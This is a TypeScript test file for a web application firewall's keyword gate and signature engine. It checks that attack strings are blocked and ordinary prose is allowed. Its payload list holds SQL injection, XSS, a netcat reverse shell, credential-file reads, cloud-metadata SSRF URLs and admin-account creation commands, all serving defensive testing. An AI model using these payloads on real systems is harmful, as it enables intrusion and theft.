import { describe, expect, it } from 'vitest';
import { DEFAULT_WAF_CONFIG } from '../../../lambdas/core/config/waf-config.ts';
import { normalizeValue, toBase64View, toPathView, toShellView, toSqlView } from '../../../lambdas/core/waf/decode.ts';
import type { EdgeRequest } from '../../../lambdas/core/edge-request.ts';
import { buildKeywordGate, gateOpen, gateSignature, planGate, scanKeywords } from '../../../lambdas/core/waf/gate.ts';
import { type CompiledWaf, ALL_SIGNATURES, compileWaf, inspectRequest } from '../../../lambdas/core/waf/index.ts';
import { collectInputs } from '../../../lambdas/core/waf/inputs.ts';
import { isPlainWords } from '../../../lambdas/core/waf/inspect.ts';
import { buildKeywordAutomaton, MAX_GATE_FRAGMENT } from '../../../lambdas/core/waf/keyword-automaton.ts';
import { regexSignature } from '../../../lambdas/core/waf/signature.ts';
import type { InputView, Signature } from '../../../lambdas/core/waf/types.ts';
import { BROWSER_HEADERS, get, json } from './helpers.ts';

function viewsOf(raw: string, urlEncoded = true): Record<InputView, string> {
  const text = normalizeValue(raw, urlEncoded);
  return {
    text,
    sql: toSqlView(text),
    path: toPathView(text),
    shell: toShellView(text),
    base64: toBase64View(raw),
    raw,
  };
}

function groupsOf(signature: Signature): readonly (readonly string[])[] {
  return [...(signature.anyOf ? [signature.anyOf] : []), ...(signature.allOf ?? [])];
}

/** Attacks that exercise the signatures with a keyword gate beyond a single character. */
const GATED_PAYLOADS = [
  "'] | //* | //*['",
  '</svg>//["\'`-->]]>]</div>',
  '<A HREF="http://1113982867/">x</A>',
  '  onload= ',
  'ja\tvascript:x',
  '<meta charset="utf-7">',
  '\u00bcscript\u00bealert(1)\u00bc/script\u00be',
  '(document/**/)["cookie"]',
  'scriptalert(1)/script',
  'x";setTimeout(name, 1)//',
  "'';!--\"<XSS>=&{()}",
  "1' or sleep(5)-- -",
  "1' and ascii(substring((select user()),1,1))>64--",
  '1; drop table users',
  "1; exec master..xp_cmdshell 'ping 10.0.0.1'",
  'char(65)+char(66)',
  "concat('a','b')",
  'concat_ws(0x3a,user())',
  '<img src=x onerror=alert(document.cookie)>',
  'javascript:window.location="http://evil"',
  '; cat /etc/passwd',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '() { :; }; /bin/bash -c id',
  '& dir c:\\',
  '& net user hacker Passw0rd /add',
  '; netsh advfirewall set allprofiles state off',
  'ifconfig',
  '| type c:\\boot.ini',
  'cat /etc/passwd',
  'ping -n 5 127.0.0.1',
  'for /f %i in (whoami) do echo %i',
  "system($_GET['c'])",
  "eval(base64_decode('ZWNobyAx'))",
  'gzinflate(base64_decode("x"))',
  '${@system(id)}',
  'chr(65).chr(66)',
  "__import__('os').system('id')",
  "os.system('id')",
  '/etc/passwd',
  '/proc/self/environ',
  'c:/windows/win.ini',
  '/var/log/apache2/access.log',
  'php://filter/convert.base64-encode/resource=index.php',
  'phar://upload.jpg/shell',
  'gopher://127.0.0.1:25/_HELO',
  'http://169.254.169.254/latest/meta-data/',
  'shell.php',
  'Mozilla/5.0 sqlmap/1.5#stable',
  'Mozilla/5.0 Nmap Scripting Engine',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  'Expanse, a Palo Alto Networks company, searches across the global IPv4 space (scanning)',
  "1'||'a",
  "' or 'a'='a",
  "admin'--",
  '1 or 1=1',
  '1 and 2771=1709)',
  "' union select 1,2-- -",
  "' || sleep(5)",
  '" onmouseover="alert(1)',
  'x|',
  '42)',
  'iif(5257=5257,1,1/0)',
  "' or ''-'",
  'AND deleted = 0)',
  "x'-email--",
  `5"(.)',.(,.`,
  'benchmark(',
  'floor(',
  ') AS cnt FROM',
  "x'='x",
];

describe('WAF keyword automaton', () => {
  it('finds overlapping fragments in one pass, ignoring ASCII case', () => {
    // Prepare
    const automaton = buildKeywordAutomaton([['union'], ['on'], ['sel', 'zzz'], ['select from']]);
    const seen = new Int32Array(automaton.groupCount);
    // Act
    automaton.scan('1 UNION SELECT', seen, 7);
    // Assess
    const marked = [['union'], ['on'], ['sel', 'zzz'], ['select from']].map(
      (group) => seen[automaton.groupIdOf(group)] === 7,
    );
    expect(marked).toEqual([true, true, true, false]);
  });

  it('does not join fragment letters across a non-ASCII character', () => {
    // Prepare
    const automaton = buildKeywordAutomaton([['ab']]);
    const seen = new Int32Array(automaton.groupCount);
    // Act
    automaton.scan('aéb', seen, 1);
    // Assess
    expect(seen[automaton.groupIdOf(['ab'])]).toBe(0);
  });

  it('reads a long fragment by its first characters only, so the gate can open more often but never less', () => {
    // Prepare
    const long = 'invokertransformer';
    const automaton = buildKeywordAutomaton([[long]]);
    const id = automaton.groupIdOf([long]);
    const texts = [`x ${long.toUpperCase()} y`, long.slice(0, MAX_GATE_FRAGMENT), long.slice(0, MAX_GATE_FRAGMENT - 1)];
    // Act
    const marked = texts.map((text) => {
      const seen = new Int32Array(automaton.groupCount);
      automaton.scan(text, seen, 1);
      return seen[id] === 1;
    });
    // Assess
    expect(MAX_GATE_FRAGMENT).toBeLessThan(long.length);
    expect(marked).toEqual([true, true, false]);
  });
});

describe('WAF keyword gate', () => {
  it('opens every signature on a text holding one fragment of each of its groups', () => {
    // Prepare
    const gate = buildKeywordGate(ALL_SIGNATURES);
    // Act
    const closed = ALL_SIGNATURES.filter((signature) => {
      const groups = groupsOf(signature);
      const text = `x ${groups.map((group) => group[group.length - 1]).join(' ')} y`;
      return !gateOpen(gate.seen.text, gateSignature(gate, signature), scanKeywords(gate, 'text', text));
    }).map((s) => s.id);
    // Assess
    expect(closed).toEqual([]);
  });

  it('never keeps a signature from a payload its own prefilter and regex match', () => {
    // Prepare
    const gate = buildKeywordGate(ALL_SIGNATURES);
    const keyworded = ALL_SIGNATURES.filter((s) => (s.allOf?.length ?? 0) > 0 || s.id.startsWith('SCAN-1'));
    const matchedIds = new Set<string>();
    const wronglyClosed: string[] = [];
    // Act
    for (const payload of GATED_PAYLOADS) {
      const views = viewsOf(payload);
      for (const signature of ALL_SIGNATURES) {
        const view = views[signature.view];
        if (view === '' || !signature.test(view)) continue;
        matchedIds.add(signature.id);
        const stamp = scanKeywords(gate, signature.view, view);
        if (!gateOpen(gate.seen[signature.view], gateSignature(gate, signature), stamp)) {
          wronglyClosed.push(`${signature.id}: ${payload}`);
        }
      }
    }
    // Assess
    expect(wronglyClosed).toEqual([]);
    expect(keyworded.map((s) => s.id).filter((id) => !matchedIds.has(id))).toEqual([]);
  });
});

describe('WAF engine fast paths', () => {
  const balanced = compileWaf(DEFAULT_WAF_CONFIG);
  const prose =
    "I've worn these for 3 weeks on mixed terrain; the grip is excellent and they're light (size 42). ".repeat(22);

  it('allows a browser User-Agent it has never seen', () => {
    // Prepare
    const request = get('/api/v1/products?page=2', {
      ...BROWSER_HEADERS,
      'user-agent': `Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 Build/${Date.now()}`,
    });
    // Act
    const decision = inspectRequest(balanced, request);
    // Assess
    expect(decision.action).toBe('allow');
  });

  it('blocks a browser User-Agent carrying a command injection', () => {
    // Prepare
    const request = get('/api/v1/products?page=2', {
      ...BROWSER_HEADERS,
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36; cat /etc/passwd',
    });
    // Act
    const decision = inspectRequest(balanced, request);
    // Assess
    expect(decision.action).toBe('block');
    expect(decision.matches.some((m) => m.location === 'header:user-agent')).toBe(true);
  });

  it('allows a 2 KB JSON text field of ordinary prose', () => {
    // Prepare
    const request = json({ title: "Customer's review", body: prose });
    // Act
    const decision = inspectRequest(balanced, request);
    // Assess
    expect(decision.action).toBe('allow');
  });

  it('blocks a UNION SELECT at the end of a 2 KB JSON text field', () => {
    // Prepare
    const request = json({ title: "Customer's review", body: `${prose}' UNION SELECT password FROM users-- -` });
    // Act
    const decision = inspectRequest(balanced, request);
    // Assess
    expect(decision.action).toBe('block');
    expect(decision.threatType).toBe('sql_injection');
  });
});

/**
 * The engine's rule ids as a plain pass over every active signature of each value's kind would find
 * them: each signature's whole gate checked against a fresh scan of its view, in signature order, a
 * rule counted once per request.
 */
function fullPassRuleIds(engine: CompiledWaf, request: EdgeRequest): string[] {
  const gate = engine.keywordGate;
  const ids: string[] = [];
  for (const input of collectInputs(request)) {
    const plain = input.kind !== 'user-agent' && isPlainWords(input.raw);
    const list = plain ? engine.plainWordGatedByKind[input.kind] : engine.gatedByKind[input.kind];
    const views = viewsOf(input.raw, input.urlEncoded);
    for (const gated of list) {
      if (ids.includes(gated.signature.id)) continue;
      const view = views[gated.view];
      if (!gateOpen(gate.seen[gated.view], gated, scanKeywords(gate, gated.view, view))) continue;
      if (view !== '' && gated.regex.test(view)) ids.push(gated.signature.id);
    }
  }
  return ids;
}

function requestsCarrying(value: string): EdgeRequest[] {
  return [
    get(`/search?q=${encodeURIComponent(value)}&page=2`),
    get(`/files/${encodeURIComponent(value)}`),
    get('/api/v1/items', { ...BROWSER_HEADERS, 'x-forwarded-host': value, cookie: `pref=${value}` }),
    get('/api/v1/items', { ...BROWSER_HEADERS, 'user-agent': value }),
    json({ comment: value, [value.slice(0, 40)]: 1 }),
  ];
}

/** A one-signature engine's rule: `pattern` over the raw (case-preserving) view of an argument, gated on "key". */
function rawArgSignature(id: string, pattern: RegExp): Signature {
  return regexSignature({
    id,
    family: 'scanner',
    threatType: 'scanner',
    level: 1,
    severity: 5,
    description: 'test',
    view: 'raw',
    kinds: ['arg'],
    anyOf: ['key'],
    pattern,
  });
}

describe('WAF keyword gate plan', () => {
  it('anchors a signature on its rarest group', () => {
    // Prepare
    const signature = regexSignature({
      id: 'TEST-100',
      family: 'sqli',
      threatType: 'sql_injection',
      level: 1,
      severity: 5,
      description: 'test',
      view: 'sql',
      anyOf: ["'", '"'],
      allOf: [
        ['union select', 'union all select'],
        ['--', '#'],
      ],
      pattern: /union (?:all )?select/,
    });
    const gate = buildKeywordGate([signature]);
    // Act
    const gated = gateSignature(gate, signature);
    // Assess
    expect(gated.groups[0]).toBe(gate.automaton.groupIdOf(['union select', 'union all select']));
    expect([...gated.groups].sort()).toEqual(
      [
        ["'", '"'],
        ['union select', 'union all select'],
        ['--', '#'],
      ]
        .map((g) => gate.automaton.groupIdOf(g))
        .sort(),
    );
  });

  it('files every gated signature once, under its anchor in its view, and lists the rest as ungated', () => {
    // Prepare
    const engine = compileWaf({ ...DEFAULT_WAF_CONFIG, sensitivityScore: 100 });
    for (const list of [...Object.values(engine.gatedByKind), ...Object.values(engine.plainWordGatedByKind)]) {
      // Act
      const plan = planGate(engine.keywordGate, list);
      // Assess
      const filed: number[] = [...plan.ungated];
      for (const view of plan.views) {
        const start = plan.anchorStart[view]!;
        const anchored = plan.anchored[view]!;
        for (let group = 0; group < engine.keywordGate.automaton.groupCount; group++) {
          for (let j = start[group]!; j < start[group + 1]!; j++) {
            const gated = list[anchored[j]!]!;
            expect([gated.viewIndex, gated.groups[0]]).toEqual([view, group]);
            filed.push(anchored[j]!);
          }
        }
      }
      expect(filed.sort((a, b) => a - b)).toEqual(list.map((_, i) => i));
      expect(plan.ungated.every((i) => list[i]!.groups.length === 0)).toBe(true);
    }
  });

  it.each([30, 70, 100])(
    'reports the rule ids of a full pass over every signature, in the same order, at sensitivity %i',
    (sensitivity) => {
      // Prepare
      const engine = compileWaf({ ...DEFAULT_WAF_CONFIG, sensitivityScore: sensitivity });
      const values = [
        ...GATED_PAYLOADS,
        "I've worn these for 3 weeks on mixed terrain; the grip is excellent and they're light.",
        'running shoes size 42',
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36; cat /etc/passwd',
        'UNION SELECT password FROM users',
      ];
      const requests = values.flatMap(requestsCarrying);
      // Act
      const reported = requests.map((request) => inspectRequest(engine, request).ruleIds);
      // Assess
      expect(reported).toEqual(requests.map((request) => fullPassRuleIds(engine, request)));
      expect(reported.filter((ids) => ids.length > 0).length).toBeGreaterThan(values.length);
    },
  );

  it('reads a raw value that differs from its text only in ASCII case through the text scan', () => {
    // Prepare
    const rawKey = rawArgSignature('TEST-110', /KEY/);
    const engine = compileWaf(DEFAULT_WAF_CONFIG, [rawKey]);
    // Act
    const decision = inspectRequest(engine, json({ note: 'MY KEY (1)' }));
    // Assess
    expect(decision.ruleIds).toEqual(['TEST-110']);
  });

  it('allows a raw value whose fragment appears only once lower-cased (Kelvin sign), as a scan of the raw view does', () => {
    // Prepare
    const rawKey = rawArgSignature('TEST-111', /\u212aey/);
    const engine = compileWaf(DEFAULT_WAF_CONFIG, [rawKey]);
    // Act
    const decision = inspectRequest(engine, json({ note: 'my \u212aey (1)' }));
    // Assess
    expect(normalizeValue('my \u212aey (1)', false)).toBe('my key (1)');
    expect(decision.ruleIds).toEqual([]);
  });

  it('keeps the marks of every view of a value when the stamps wrap around', () => {
    // Prepare
    const engine = compileWaf(DEFAULT_WAF_CONFIG);
    const request = get(`/search?q=${encodeURIComponent("1' union select password from users-- -")}`);
    const expected = inspectRequest(engine, request).ruleIds;
    // Act
    engine.keywordGate.stamp = 0x7ffffff0 - 8;
    const acrossTheWrap = Array.from({ length: 9 }, () => inspectRequest(engine, request).ruleIds);
    // Assess
    expect(expected.length).toBeGreaterThan(0);
    for (const ids of acrossTheWrap) expect(ids).toEqual(expected);
  });
});
